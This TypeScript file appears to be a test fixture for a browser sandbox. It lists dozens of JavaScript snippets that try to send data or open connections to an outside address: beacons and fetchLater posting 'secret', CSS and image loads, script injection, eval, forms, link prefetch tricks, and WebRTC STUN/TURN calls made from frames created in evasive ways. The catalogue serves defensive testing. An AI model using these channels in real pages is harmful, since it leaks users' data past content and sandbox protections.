import { ANYWHERE, type Attempt } from "./attempts.ts";

const element = (name: string, assign: string, after = "document.body.append(it)"): string =>
  `const it = document.createElement("${name}"); ${assign}; ${after}`;

const styled = (name: string): string =>
  `const it = document.createElement("div"); it.textContent = "x"; document.body.append(it); it.style.setProperty("${name}", "url(" + to + ")")`;

const talk = (connection: string, servers: string): string =>
  `const call = new ${connection}({ iceServers: [${servers}] }); call.createDataChannel("x"); await call.setLocalDescription(await call.createOffer())`;
const STUN = '{ urls: "stun:" + peer }';
const TURN = '{ urls: "turn:" + peer + "?transport=tcp", username: "secret", credential: "x" }';
const inFrame = (make: string): string =>
  `${make}; document.body.append(frame); ${talk("frame.contentWindow.RTCPeerConnection", STUN)}`;

/** Of a page. */
export const IN_PAGE: readonly Attempt[] = [
  ...ANYWHERE,
  ["fetch later", 'fetchLater(to, { method: "POST", body: "secret", activateAfter: 0 })'],
  ["beacon", 'if (!navigator.sendBeacon(to, "secret")) throw new Error("refused")'],
  ["picture", element("img", "it.src = to")],
  ["picture of a set", element("img", 'it.srcset = to + " 1x"')],
  [
    "picture of a choice",
    element(
      "picture",
      'const source = document.createElement("source"); source.srcset = to; it.append(source, document.createElement("img"))',
    ),
  ],
  ["picture as an object", "const it = new Image(); it.src = to; await it.decode()"],
  ["button that is a picture", element("input", 'it.type = "image"; it.src = to')],
  [
    "picture in a drawing",
    'const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const it = document.createElementNS(svg.namespaceURI, "image"); it.setAttribute("href", to); svg.append(it); document.body.append(svg)',
  ],
  [
    "part of a drawing",
    'const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const it = document.createElementNS(svg.namespaceURI, "use"); it.setAttribute("href", to + "#x"); svg.append(it); document.body.append(svg)',
  ],
  [
    "filter of a drawing",
    'const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const filter = document.createElementNS(svg.namespaceURI, "filter"); const it = document.createElementNS(svg.namespaceURI, "feImage"); it.setAttribute("href", to); filter.append(it); svg.append(filter); document.body.append(svg)',
  ],
  ["background", styled("background-image")],
  ["cursor", styled("cursor")],
  ["mask", styled("mask-image")],
  ["filter", styled("filter")],
  ["path that cuts", styled("clip-path")],
  ["content", styled("content")],
  [
    "filter of a canvas",
    'const it = document.createElement("canvas").getContext("2d"); it.filter = "url(" + to + "#x)"; it.fillRect(0, 0, 9, 9)',
  ],
  ["mark of a list", styled("list-style-image")],
  ["border", styled("border-image-source")],
  ["words of a style", element("div", 'it.setAttribute("style", "background:url(" + to + ")")')],
  [
    "style element",
    element("style", 'it.textContent = "@import url(" + to + ");"', "document.head.append(it)"),
  ],
  [
    "style sheet of theirs",
    element("link", 'it.rel = "stylesheet"; it.href = to', "document.head.append(it)"),
  ],
  [
    "style sheet made here",
    'const it = new CSSStyleSheet(); it.replaceSync("body{background:url(" + to + ")}"); document.adoptedStyleSheets = [...document.adoptedStyleSheets, it]',
  ],
  ["typeface", 'const it = new FontFace("x", "url(" + to + ")"); await it.load()'],
  [
    "typeface in a sheet",
    'const it = new CSSStyleSheet(); it.replaceSync("@font-face{font-family:x;src:url(" + to + ")}body{font-family:x}"); document.adoptedStyleSheets = [...document.adoptedStyleSheets, it]',
  ],
  ["script of theirs", element("script", "it.src = to", "document.head.append(it)")],
  ["module of theirs", element("script", 'it.type = "module"; it.src = to', "document.head.append(it)")],
  [
    "script in the page",
    element("script", 'it.text = "fetch(" + JSON.stringify(to) + ")"', "document.head.append(it)"),
  ],
  ["eval", 'eval("fetch(to)")'],
  ["function of a text", 'new Function("to", "return fetch(to)")(to)'],
  ["time and a text", 'setTimeout("fetch(" + JSON.stringify(to) + ")", 0)'],
  [
    "rules of speculation",
    element(
      "script",
      'it.type = "speculationrules"; it.text = JSON.stringify({ prefetch: [{ urls: [to] }] })',
      "document.head.append(it)",
    ),
  ],
  ["sound", element("audio", 'it.src = to; it.preload = "auto"')],
  ["film", element("video", 'it.src = to; it.poster = to; it.preload = "auto"')],
  [
    "track",
    element(
      "video",
      'const track = document.createElement("track"); track.src = to; track.default = true; it.append(track); track.track.mode = "showing"',
    ),
  ],
  ["frame", element("iframe", "it.src = to")],
  ["frame of a text", element("iframe", `it.srcdoc = "<img src='" + to + "'>"`)],
  ["empty frame", element("iframe", "", "document.body.append(it); await it.contentWindow.fetch(to)")],
  ["object", element("object", "it.data = to")],
  ["embed", element("embed", "it.src = to")],
  ["form", element("form", 'it.action = to; it.method = "post"', "document.body.append(it); it.submit()")],
  [
    "form in a new window",
    element("form", 'it.action = to; it.target = "_blank"', "document.body.append(it); it.submit()"),
  ],
  [
    "link that reports",
    element("a", 'it.href = location.hash || "#x"; it.ping = to', "document.body.append(it); it.click()"),
  ],
  ...[
    "prefetch",
    "preload",
    "modulepreload",
    "preconnect",
    "dns-prefetch",
    "icon",
    "manifest",
    "compression-dictionary",
    "prerender",
  ].map(
    (rel): Attempt => [
      `link: ${rel}`,
      element("link", `it.rel = "${rel}"; it.as = "image"; it.href = to`, "document.head.append(it)"),
    ],
  ),
  [
    "link: preconnect by an attribute",
    element("link", 'it.href = to; it.setAttribute("REL", "preconnect")', "document.head.append(it)"),
  ],
  [
    "link: preconnect by an attribute in a space",
    element("link", 'it.href = to; it.setAttributeNS(null, "rel", "preconnect")', "document.head.append(it)"),
  ],
  [
    "link: preconnect by a list",
    element("link", 'it.href = to; it.relList.add("preconnect")', "document.head.append(it)"),
  ],
  [
    "link: preconnect by an attribute of its own",
    element(
      "link",
      'it.href = to; const rel = document.createAttribute("rel"); rel.value = "preconnect"; it.attributes.setNamedItem(rel)',
      "document.head.append(it)",
    ),
  ],
  [
    "link: preconnect by an attribute that changes",
    element(
      "link",
      'it.href = to; it.rel = "icon"; it.attributes.rel.textContent = "preconnect"',
      "document.head.append(it)",
    ),
  ],
  [
    "link: preconnect in two faces",
    element(
      "link",
      'let asked = 0; it.href = to; it.rel = { toString: () => (asked++ ? "preconnect" : "icon") }',
      "document.head.append(it)",
    ),
  ],
  [
    "base",
    element(
      "base",
      "it.href = to",
      'document.head.append(it); const script = document.createElement("img"); script.src = "x.png"; document.body.append(script)',
    ),
  ],
  ["service worker of theirs", "await navigator.serviceWorker.register(to)"],
  ["worklet", "await CSS.paintWorklet.addModule(to)"],
  ["note of the system", 'new Notification("x", { icon: to })'],
  [
    "payment",
    'await new PaymentRequest([{ supportedMethods: to }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
  ],
  [
    "identity",
    'await navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: "x" }] } })',
  ],
  ["advertisement", 'await navigator.joinAdInterestGroup({ owner: to, name: "x", biddingLogicURL: to }, 99)'],
  ["attribution", element("img", 'it.setAttribute("attributionsrc", to)')],
  ["STUN", talk("RTCPeerConnection", STUN)],
  ["STUN of WebKit", talk("webkitRTCPeerConnection", STUN)],
  ["TURN", talk("RTCPeerConnection", TURN)],
  ["STUN from a frame", inFrame('const frame = document.createElement("iframe")')],
  [
    "STUN from a frame with a prefix",
    inFrame('const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "h:iframe")'),
  ],
  [
    "STUN from a frame of two names",
    inFrame(
      'let first = true; const frame = document.createElement({ toString: () => (first ? ((first = false), "p") : "iframe") })',
    ),
  ],
  [
    "STUN from a frame of another document",
    inFrame('const frame = document.implementation.createHTMLDocument().createElement("iframe")'),
  ],
  [
    "STUN from a frame of a new kind",
    inFrame(
      'customElements.define("x-frame", class extends HTMLIFrameElement {}, { extends: "iframe" }); const frame = new (customElements.get("x-frame"))()',
    ),
  ],
  [
    "STUN from a frame in a text",
    inFrame(
      'document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); const frame = document.querySelector("iframe")',
    ),
  ],
  [
    "STUN from a frame in a template",
    inFrame(
      'const t = document.createElement("template"); t.innerHTML = "<iframe></iframe>"; const frame = t.content.firstChild',
    ),
  ],
  [
    "STUN from a frame that was parsed",
    inFrame(
      'const frame = document.adoptNode(new DOMParser().parseFromString("<iframe></iframe>", "text/html").querySelector("iframe"))',
    ),
  ],
  [
    "STUN from a frame of a document that was parsed",
    inFrame(
      'const frame = document.adoptNode(Document.parseHTMLUnsafe("<iframe></iframe>").querySelector("iframe"))',
    ),
  ],
  [
    "STUN from a frame of a fragment",
    inFrame('const frame = document.createRange().createContextualFragment("<iframe></iframe>").firstChild'),
  ],
  [
    "STUN from a frame of XML",
    inFrame(
      'const frame = document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement)',
    ),
  ],
  [
    "STUN from an object",
    'const it = document.createElement("object"); it.type = "text/html"; it.data = "about:blank"; document.body.append(it); ' +
      talk("it.contentWindow.RTCPeerConnection", STUN),
  ],
  [
    "STUN from a window",
    `const it = window.open("", "", "width=300,height=200"); ${talk("it.RTCPeerConnection", STUN)}`,
  ],
  ["text that becomes elements", `document.body.innerHTML += "<img src='" + to + "'>"`],
  ["text that is written", `document.write("<img src='" + to + "'>")`],
];

/**
 * Leaving for them. A page keeps itself from it where the browser tells it of navigations; a frame in a sandbox is told
 * of none, and holds nothing that its own address and host do not give to anybody.
 */
export const LEAVING: readonly Attempt[] = [
  ["address", "location.href = to"],
  ["address replaced", "location.replace(to)"],
  ["address assigned", "location.assign(to)"],
  ["link that a script presses", element("a", "it.href = to", "document.body.append(it); it.click()")],
  [
    "link to save from",
    element("a", 'it.href = to; it.download = "x"', "document.body.append(it); it.click()"),
  ],
  ["window", "window.open(to)"],
  ["window of the reader", 'window.open("./index.html")'],
  [
    "refresh",
    element("meta", 'it.httpEquiv = "refresh"; it.content = "0;url=" + to', "document.head.append(it)"),
  ],
  ["navigation", "await navigation.navigate(to).committed"],
];
